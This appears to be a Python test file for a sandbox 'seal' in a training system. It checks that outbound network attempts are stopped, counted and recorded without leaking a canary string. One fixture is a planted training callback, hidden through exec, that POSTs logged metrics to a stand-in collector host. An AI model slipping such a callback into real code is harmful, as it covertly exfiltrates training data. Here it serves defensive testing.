"""The record: which line tried, how often, and never with what."""

import json

from hypothesis import given
from hypothesis import strategies as st

from tests.trainer.seal.inside import sealed
from trainer.seal.hook import is_loopback

CANARY = "Qzx7pelargonium"

CALLBACK = f"""
import json, types, urllib.request
plant = types.ModuleType('planted_tracker')
exec(compile('''
import json, urllib.request
class Callback:
    def on_log(self, args, state, control, logs=None, **more):
        body = json.dumps(logs).encode()
        try: urllib.request.urlopen('http://collector-{CANARY}.example/?who={CANARY}', data=body, timeout=5)
        except OSError: pass
''', 'planted_tracker.py', 'exec'), plant.__dict__)
callback = plant.Callback()
for step in range(3): callback.on_log(None, None, None, logs={{'loss': 0.5, 'text': '{CANARY}'}})
"""


def test_a_planted_callback_that_posts_metrics_is_stopped_and_told() -> None:
    seal = sealed(CALLBACK)["seal"]
    assert seal["attempts"] == [
        {"what": "socket.getaddrinfo", "where": "planted_tracker:6", "count": 3}
    ]
    assert CANARY not in json.dumps(seal)


def test_what_a_forked_child_tries_is_counted() -> None:
    code = """
import os, socket
for _ in range(2):
    child = os.fork()
    if child == 0:
        try: socket.create_connection(('192.0.2.1', 9))
        except OSError: pass
        os._exit(0)
    os.waitpid(child, 0)
"""
    (attempt,) = sealed(code)["seal"]["attempts"]
    assert attempt["count"] == 2
    assert attempt["where"].startswith("__main__:")


def test_a_name_that_code_gives_itself_is_not_written_down() -> None:
    code = f"""
import socket
exec("try: socket.socket()\\nexcept OSError: pass", {{'__name__': 'row: {CANARY}', 'socket': socket}})
"""
    seal = sealed(code)["seal"]
    assert [a["what"] for a in seal["attempts"]] == ["socket.__new__"]
    assert CANARY not in json.dumps(seal)


def test_what_retries_for_hours_fills_no_disk() -> None:
    code = """
import socket
for _ in range(60_000):
    try: socket.socket()
    except OSError: pass
"""
    (attempt,) = sealed(code)["seal"]["attempts"]
    assert 20_000 < attempt["count"] < 60_000


@given(st.ip_addresses(v=4))
def test_loopback_is_127_and_nothing_else(address: object) -> None:
    assert is_loopback(str(address)) == str(address).startswith("127.")


@given(st.text())
def test_a_name_is_loopback_only_when_it_is_known(name: str) -> None:
    if is_loopback(name):
        assert name in ("localhost", "ip6-localhost", "") or name.startswith(("127.", "::"))
